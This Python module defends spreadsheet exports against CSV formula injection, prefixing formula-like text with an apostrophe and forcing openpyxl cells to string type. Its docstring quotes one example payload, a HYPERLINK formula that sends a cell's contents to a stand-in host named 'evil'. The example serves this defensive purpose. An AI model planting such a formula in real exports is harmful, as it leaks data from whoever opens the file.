"""Spreadsheet cells that stay text: no answer becomes a live formula (OWASP CSV injection).

Anyone enrolled can type `=HYPERLINK("https://evil/?q="&C2,"see")` as an answer. In a
CSV, Excel and LibreOffice evaluate a cell that starts with `=`, `+`, `-` or `@` (and tab or
carriage return, which they skip first), so such a cell gets a leading apostrophe, OWASP's
advice. In an XLSX, openpyxl turns a string starting with `=` into a formula; the cell is
typed as a plain string again, so the file keeps the person's words exactly and runs nothing.
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any, Protocol

# OWASP "CSV Injection": the characters that make a spreadsheet read a cell as a formula.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# Full-width look-alikes that some spreadsheet locales also accept as a formula's start.
_WIDE_STARTS = ("＝", "＋", "－", "＠")


def looks_like_formula(value: str) -> bool:
    """Whether a spreadsheet could read this text as a formula."""
    return value.startswith(FORMULA_STARTS) or value.startswith(_WIDE_STARTS)


def inert_csv(value: Any) -> Any:
    """A CSV cell value that a spreadsheet shows as text: formula-like text gets a leading `'`."""
    if isinstance(value, str) and looks_like_formula(value):
        return "'" + value
    return value


def inert_csv_row(values: Iterable[Any]) -> list[Any]:
    """A whole CSV row made inert."""
    return [inert_csv(v) for v in values]


class TextCell(Protocol):
    """What an openpyxl cell offers here (kept structural: no spreadsheet import needed)."""

    value: Any
    data_type: str


def inert_xlsx(cells: Iterable[TextCell]) -> None:
    """Type every text cell as a string, never a formula (openpyxl guesses `f` from a `=`)."""
    for cell in cells:
        if isinstance(cell.value, str):
            cell.data_type = "s"
